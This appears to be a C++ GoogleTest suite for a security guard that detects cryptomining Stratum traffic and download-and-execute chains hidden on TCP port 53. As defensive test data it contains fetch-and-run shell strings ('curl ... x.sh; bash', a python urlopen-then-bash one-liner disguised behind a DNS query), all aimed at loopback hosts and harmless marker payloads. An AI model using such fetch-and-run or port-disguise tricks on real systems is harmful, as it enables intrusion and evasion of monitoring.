// SPDX-License-Identifier: Apache-2.0
// TCP port 53 is no hiding place: what is no DNS there is read and remembered like any other flow.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "chain_site.h"
#include "stratum_site.h"
#include "support/fake_pool.h"

namespace davylamp::test {
namespace {

using testing::Contains;
using testing::IsEmpty;

// Whatever listens on port 53 here is elsewhere.
const std::string kServer = "127.0.0.153";
const std::string kPool = "127.0.0.154"; // where Stratum was spoken, a guard refuses for a minute

class Port53 : public testing::TestWithParam<Mode> {};

TEST_P(Port53, HidesNoStratum)
{
    TempFolder folder;
    FakePool pool(53, "", kPool);
    ASSERT_EQ(pool.port(), 53);
    GuardResult result = run_guard(GetParam(), quoted({program("live_stratum_client"), kPool, "53",
                                                       folder.write("message", subscribe_message()),
                                                       "one", folder / "report"}));
    EXPECT_THAT(result.codes(), Contains("MINE-001")) << result.out << result.err;
    ASSERT_TRUE(eventually([&] { return pool.all_ended(); }));
    EXPECT_EQ(pool.bytes(), GetParam() == Mode::monitor ? subscribe_message() : "");
}

TEST_P(Port53, HidesNoDownload)
{
    ChainSite site;
    HttpServer web(kServer, 53);
    ASSERT_EQ(web.port(), 53);
    web.serve("/x.sh", "echo ran > " + site.marker() + "\n");
    GuardResult result = run_guard(
        GetParam(), site.fill("curl -s -o @D/f " + web.url("/x.sh") + "; bash @D/f; echo done"));
    EXPECT_THAT(result.codes(), Contains("CHAIN-003")) << result.out << result.err;
    EXPECT_EQ(exists(site.marker()), GetParam() == Mode::monitor);
}

// The downloader asks for a name by TCP, after it has connected to where the bytes come from.
TEST_P(Port53, HidesNoDownloadBehindAQuestion)
{
    ChainSite site;
    FakePool names(53, "", kServer);
    ASSERT_EQ(names.port(), 53);
    GuardResult result = run_guard(
        GetParam(),
        site.fill("python3 -c 'import socket, sys, urllib.request as r; u = r.urlopen(\"@URL\"); "
                  "s = socket.create_connection((\"127.0.0.153\", 53)); "
                  "s.sendall(bytes.fromhex(\"001d123401000001000000000000\") + b\"\\x07example\\x03"
                  "org\\0\\0\\1\\0\\1\"); "
                  "open(\"@D/f\", \"wb\").write(u.read())'; bash @D/f; echo done"));
    EXPECT_THAT(result.codes(), Contains("CHAIN-003")) << result.out << result.err;
    EXPECT_EQ(exists(site.marker()), GetParam() == Mode::monitor);
}

// The honest twin: who asks by TCP, and writes a script of his own, has downloaded nothing.
TEST_P(Port53, FeedsNobodyByDns)
{
    ChainSite site;
    FakePool names(53, "", kServer);
    ASSERT_EQ(names.port(), 53);
    GuardResult result = run_guard(
        GetParam(),
        site.fill("python3 -c 'import socket; "
                  "s = socket.create_connection((\"127.0.0.153\", 53)); "
                  "s.sendall(bytes.fromhex(\"001d123401000001000000000000\") + b\"\\x07example\\x03"
                  "org\\0\\0\\1\\0\\1\"); "
                  "open(\"@D/f\", \"w\").write(\"echo ran > @D/marker\")'; bash @D/f; echo done"));
    EXPECT_THAT(result.codes(), IsEmpty()) << result.out << result.err;
    EXPECT_EQ(result.exit_code, 0) << result.err;
    EXPECT_TRUE(exists(site.marker()));
}

INSTANTIATE_TEST_SUITE_P(Live, Port53, testing::Values(Mode::monitor, Mode::block, Mode::kill),
                         [](const auto& test) { return std::string(mode_name(test.param)); });

} // namespace
} // namespace davylamp::test
